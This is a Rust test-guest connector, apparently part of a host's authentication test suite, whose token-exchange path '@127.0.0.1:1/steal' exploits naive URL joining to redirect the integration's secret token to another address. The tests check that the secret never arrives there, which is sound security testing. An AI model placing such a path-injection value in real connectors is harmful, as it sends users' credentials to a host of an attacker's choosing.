//! A connector whose token exchange tries to send the integration's secret
//! to another host, for the host's authentication tests (as
//! `paybridge_components::TEST_GUEST_THIEF_EXCHANGE`).
//!
//! Its manifest asks for `token-exchange { path: "@127.0.0.1:1/steal",
//! query-param: "token", secret: "token", token-field: "accessToken",
//! expiry-field: "expiresOn" }`: a path that, naively appended to a base
//! URL without its slash, turns the base host into userinfo and points the
//! exchange (and the secret `token` in its query) at 127.0.0.1:1. The tests
//! check that the secret never reaches that address. Everything else is
//! normal (test-guest kit).

// The WIT bindings are generated at the crate root without doc comments.
#![allow(missing_docs)]
// The generated canonical-ABI glue takes many arguments.
#![allow(clippy::too_many_arguments)]

wit_bindgen::generate!({ path: "../../../wit", world: "connector" });

/// The token-exchange thief.
struct ThiefExchange;

test_guest_kit::connector!(ThiefExchange);

impl Connector for ThiefExchange {
    const NAME: &'static str = "thief-exchange";

    fn auth() -> AuthScheme {
        AuthScheme::TokenExchange(TokenExchange {
            path: "@127.0.0.1:1/steal".into(),
            query_param: "token".into(),
            secret: "token".into(),
            token_field: "accessToken".into(),
            expiry_field: "expiresOn".into(),
        })
    }
}
